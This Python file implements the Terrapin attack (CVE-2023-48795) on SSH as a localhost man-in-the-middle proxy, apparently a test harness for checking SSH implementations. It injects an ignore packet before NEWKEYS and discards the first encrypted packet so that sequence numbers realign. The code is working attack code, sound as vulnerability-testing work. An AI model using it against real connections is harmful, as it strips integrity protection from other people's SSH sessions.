"""Somebody on the way of an SSH connection, who does what the Terrapin attack does (CVE-2023-48795):
one packet more in front of the encryption, and the first one behind it taken away, so that the
numbers of the packets are right again."""

import contextlib
import socket
import threading

IGNORE, NEWKEYS = 2, 21


def packet(payload):
    """Not encrypted, padded to eight bytes (RFC 4253 section 6)."""
    padding = 8 - (len(payload) + 5) % 8
    padding += 8 if padding < 4 else 0
    return (len(payload) + padding + 1).to_bytes(4, "big") + bytes([padding]) + payload \
        + bytes(padding)


class Middle:
    """Listens on `port` and passes to a server. It attacks what goes `to` "server" or "client"."""

    def __init__(self, server_port, to):
        self.server_port = server_port
        self.to = to
        self.was_inserted = False
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        with contextlib.suppress(OSError):
            while True:
                client, _ = self.listener.accept()
                server = socket.create_connection(("127.0.0.1", self.server_port))
                for source, sink, name in [(client, server, "server"), (server, client, "client")]:
                    attack = self._attacked if name == self.to else self._copied
                    threading.Thread(target=attack, args=(source, sink), daemon=True).start()

    def _copied(self, source, sink):
        with contextlib.suppress(OSError):
            while piece := source.recv(65536):
                sink.sendall(piece)
        with contextlib.suppress(OSError):
            sink.shutdown(socket.SHUT_WR)

    def _attacked(self, source, sink):
        with contextlib.suppress(OSError):
            file = source.makefile("rb", buffering=0)
            sink.sendall(read_line(file))
            while True:
                head = read(file, 4)
                body = read(file, int.from_bytes(head, "big"))
                if body[1] == NEWKEYS:
                    sink.sendall(packet(bytes([IGNORE]) + bytes(4)))
                    self.was_inserted = True
                    sink.sendall(head + body)
                    break
                sink.sendall(head + body)
            # Whoever is first to speak encrypted says one packet and waits.
            file.read(65536)
        self._copied(source, sink)

    def close(self):
        with contextlib.suppress(OSError):
            self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()


def read(file, length):
    found = b""
    while len(found) < length:
        piece = file.read(length - len(found))
        if not piece:
            raise ConnectionError("the other end left")
        found += piece
    return found


def read_line(file):
    line = b""
    while not line.endswith(b"\n"):
        line += read(file, 1)
    return line
